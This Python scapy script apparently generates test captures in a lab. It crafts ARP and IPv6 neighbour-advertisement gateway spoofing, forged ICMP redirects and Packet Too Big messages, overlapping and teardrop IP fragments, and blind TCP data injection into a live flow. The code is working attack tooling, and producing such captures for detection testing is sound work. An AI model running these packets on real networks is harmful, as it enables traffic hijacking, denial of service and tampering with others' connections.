#!/usr/bin/python3
"""What scapy sends into the captures beside this file: crafted.py WHAT, on e0 of the attacker. captures/README.md says who is who."""
import sys, logging
logging.getLogger("scapy").setLevel(logging.ERROR)
from scapy.all import *
conf.verb = 0
SRC, DST, GW, FAR = "192.0.2.1", "192.0.2.2", "192.0.2.254", "198.51.100.9"
MSRC, MDST, MGW = "02:00:00:00:00:01", "02:00:00:00:00:02", "02:00:00:00:00:fe"
IF = "e0"
def to_src(p, **kw): sendp(Ether(dst=MSRC, **kw) / p, iface=IF)
def to_dst(p, **kw): sendp(Ether(dst=MDST, **kw) / p, iface=IF)
what = sys.argv[1]
if what == "storm":
    sendp([Ether(dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, psrc=GW, pdst=GW, hwsrc="02:00:00:00:00:66")] * 120, iface=IF, inter=0.02)
elif what == "storm6":
    announcement = IPv6(src="fd00::254", dst="ff02::1", hlim=255) / ICMPv6ND_NA(tgt="fd00::254", R=1, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr="02:00:00:00:00:66")
    sendp([Ether(src="02:00:00:00:00:66", dst="33:33:00:00:00:01") / announcement] * 120, iface=IF, inter=0.02)
elif what == "redirect":
    quoted = IP(src=SRC, dst=FAR) / ICMP(id=0x7777, seq=1)
    for _ in range(3): to_src(IP(src=GW, dst=SRC) / ICMP(type=5, code=1, gw="192.0.2.66") / quoted)
elif what == "ptb":
    def ptb(mtu, quoted, to=SRC): to_src(IP(src=GW, dst=to) / ICMP(type=3, code=4, nexthopmtu=mtu) / quoted)
    sniffed = sniff(iface=IF, lfilter=lambda p: TCP in p and p[IP].src == SRC and len(p[TCP].payload) > 500, count=1, timeout=10)[0]
    tcp = sniffed[TCP]
    def quote(seq, **kw): return IP(src=SRC, dst=DST, flags=kw.get("flags", "DF"), len=kw.get("length", 1500), ttl=63, id=1) / TCP(sport=tcp.sport, dport=tcp.dport, seq=seq, flags="A")
    ptb(68, quote(tcp.seq))                                  # below what Linux accepts
    ptb(1000, quote((tcp.seq + 0x40000000) & 0xffffffff))     # a segment that was never sent
    ptb(1400, quote(tcp.seq, length=576))                     # smaller than the MTU it is too big for
    ptb(1400, quote(tcp.seq, flags=0))                        # might have been fragmented
    ptb(1400, IP(src=SRC, dst=FAR, flags="DF", len=1500) / TCP(sport=4242, dport=4243, seq=1, flags="A"))   # no such flow
    to_src(IP(src=GW, dst=SRC) / ICMP(type=3, code=4, nexthopmtu=1400) / IP(src=GW, dst=DST, flags="DF", len=1500) / UDP(sport=1, dport=2, len=1480))  # sent by somebody else
elif what == "ptb6":
    to_src(IPv6(src="fd00::254", dst="fd00::1") / ICMPv6PacketTooBig(mtu=600) / IPv6(src="fd00::1", dst="fd00::2", plen=1460) / TCP(sport=5000, dport=5001, seq=1))
elif what == "fragments":
    big = bytes(range(256)) * 8
    data = raw(IP(src="192.0.2.66", dst=DST, id=0x1111) / UDP(sport=1000, dport=1001) / big)[20:]
    def frag(ident, offset, more, payload, proto=17): to_dst(IP(src="192.0.2.66", dst=DST, id=ident, proto=proto, flags="MF" if more else 0, frag=offset // 8) / Raw(payload))
    frag(0x1111, 0, True, data[:1024]); frag(0x1111, 0, True, data[:1024])      # 1 2: sent twice, the same bytes
    frag(0x1111, 1024, False, data[1024:])                                      # 3
    frag(0x2222, 0, True, data[:1024])                                          # 4
    frag(0x2222, 512, True, b"X" * 512)                                         # 5: overlaps with other bytes
    frag(0x2222, 1024, False, data[1024:])                                      # 6
    frag(0x3333, 0, True, data[:48])                                            # 7
    frag(0x3333, 24, False, b"Y" * 4)                                           # 8: teardrop: the last lies inside the first
    tcp = raw(IP(src="192.0.2.66", dst=DST) / TCP(sport=2000, dport=22, flags="S"))[20:]
    frag(0x4444, 0, True, tcp[:8], 6); frag(0x4444, 8, False, tcp[8:], 6)      # 9 10: RFC 1858: flags in the second fragment
    full = raw(IP(src="192.0.2.66", dst=DST) / TCP(sport=2000, dport=22, flags="A") / (b"Z" * 12))[20:]
    frag(0x5555, 0, True, full[:32], 6); frag(0x5555, 8, False, raw(tcp)[8:20], 6)   # 11 12: RFC 3128
    whole = raw(IPv6(src="fd00::66", dst="fd00::2") / UDP(sport=1, dport=2) / big)[40:]
    def frag6(ident, offset, more, payload, nh=17): to_dst(IPv6(src="fd00::66", dst="fd00::2") / IPv6ExtHdrFragment(nh=nh, id=ident, m=int(more), offset=offset // 8) / Raw(payload))
    frag6(0x66, 0, True, whole[:1024]); frag6(0x66, 512, True, b"V" * 512); frag6(0x66, 1024, False, whole[1024:])  # 13-15: RFC 5722
    frag6(0x77, 0, True, whole[:0] + raw(IPv6ExtHdrDestOpt(nh=6))[:8], 60); frag6(0x77, 8, False, tcp, 60)           # 16 17: RFC 7112: header chain in the second
elif what == "inject":
    # Follows the transfer SRC -> DST and says the next bytes before SRC does: with its own MAC address, then with that of SRC.
    own, state = get_if_hwaddr(IF), {"n": 0, "seen": 0}
    s = conf.L2socket(iface=IF)
    def hit(p):
        if TCP not in p or p[IP].src != SRC or len(p[TCP].payload) < 100 or p[Ether].src == own or bytes(p[TCP].payload)[:1] == b"!": return
        state["seen"] += 1
        if state["seen"] % 4 or state["n"] == 4: return
        state["n"] += 1
        t = p[TCP]; nxt = (t.seq + len(t.payload)) & 0xffffffff
        mac = own if state["n"] <= 2 else MSRC
        s.send(Ether(dst=MDST, src=mac) / IP(src=SRC, dst=DST, flags="DF", id=p[IP].id + 1, ttl=64) / TCP(sport=t.sport, dport=t.dport, seq=nxt, ack=t.ack, flags="PA", window=t.window, options=[("NOP", None), ("NOP", None), ("Timestamp", (dict(t.options)["Timestamp"][0] + 1, dict(t.options)["Timestamp"][1]))]) / (b"!injected by somebody else!" * 4))
    sniff(iface=IF, prn=hit, timeout=7, store=False)
elif what == "na":
    for _ in range(6):
        to_src(IPv6(src="fe80::66", dst="fd00::1", hlim=255) / ICMPv6ND_NA(tgt="fd00::254", R=1, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr="02:00:00:00:00:66")); time.sleep(0.5)
